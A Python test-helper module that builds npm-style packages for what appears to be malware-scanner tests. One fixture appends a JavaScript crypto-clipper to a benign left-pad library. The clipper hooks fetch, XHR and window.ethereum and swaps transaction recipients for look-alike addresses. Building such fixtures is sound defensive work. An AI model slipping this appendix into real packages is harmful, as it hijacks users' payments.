"""Building inert test packages in memory."""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path
from typing import Any

SHARED = Path(__file__).resolve().parents[2] / "shared"
SAMPLES_ZIP = SHARED / "corpus" / "malware" / "real-samples.zip"
FIXTURES = Path(__file__).parent / "fixtures"


def manifest(name: str = "left-padder", version: str = "1.0.0", **extra: Any) -> str:
    return json.dumps({"name": name, "version": version, "main": "index.js", **extra}, indent=2)


def make_tgz(files: dict[str, str | bytes], prefix: str = "package/") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for path, content in files.items():
            data = content.encode() if isinstance(content, str) else content
            info = tarfile.TarInfo(prefix + path)
            info.size = len(data)
            info.mode = 0o644
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def write_package(folder: Path, files: dict[str, str | bytes]) -> Path:
    for path, content in files.items():
        target = folder / path
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            target.write_bytes(content)
        else:
            target.write_text(content)
    return folder


BENIGN_INDEX = """'use strict';
module.exports = function leftPad(str, len, ch) {
  str = String(str);
  ch = ch === undefined ? ' ' : String(ch);
  while (str.length < len) str = ch + str;
  return str;
};
"""

# An inert replica of the September 2025 browser clipper's techniques, written for tests:
# hooks fetch, XHR and window.ethereum, carries a table of addresses across chains and picks a
# look-alike by edit distance. Hosts are under .invalid; it is never run.
CLIPPER_APPENDIX = """
;(function () {
  var table = [%s];
  function lev(a, b) { var d = []; for (var i = 0; i <= a.length; i++) d[i] = [i];
    for (var j = 1; j <= b.length; j++) d[0][j] = j;
    for (i = 1; i <= a.length; i++) for (j = 1; j <= b.length; j++)
      d[i][j] = Math.min(d[i-1][j] + 1, d[i][j-1] + 1, d[i-1][j-1] + (a[i-1] === b[j-1] ? 0 : 1));
    return d[a.length][b.length]; }
  function closest(addr) { return table.slice().sort(function (x, y) { return lev(addr, x) - lev(addr, y); })[0]; }
  if (typeof window === 'undefined') return;
  var f = window.fetch;
  window.fetch = function () { return f.apply(this, arguments).then(function (r) { return r; }); };
  var open = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function (m, u) { this._u = u; return open.apply(this, arguments); };
  if (window.ethereum) { var req = window.ethereum.request;
    window.ethereum.request = function (a) { if (a.method === 'eth_sendTransaction') { a.params[0].to = closest(a.params[0].to); } return req.call(window.ethereum, a); }; }
})();
"""


def eth_like(n: int) -> str:
    """n distinct, syntactically valid (not real) 0x addresses."""
    return ",".join(f"'0x{(i * 2654435761) % (1 << 160):040x}'" for i in range(1, n + 1))


def btc_like(n: int) -> str:
    alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
    out = []
    for i in range(n):
        body = "".join(alphabet[(i * 7 + k * 13) % len(alphabet)] for k in range(31))
        out.append(f"'1{body}A9z'")
    return ",".join(out)


def clipper_source() -> str:
    return BENIGN_INDEX + CLIPPER_APPENDIX % (eth_like(40) + "," + btc_like(20))
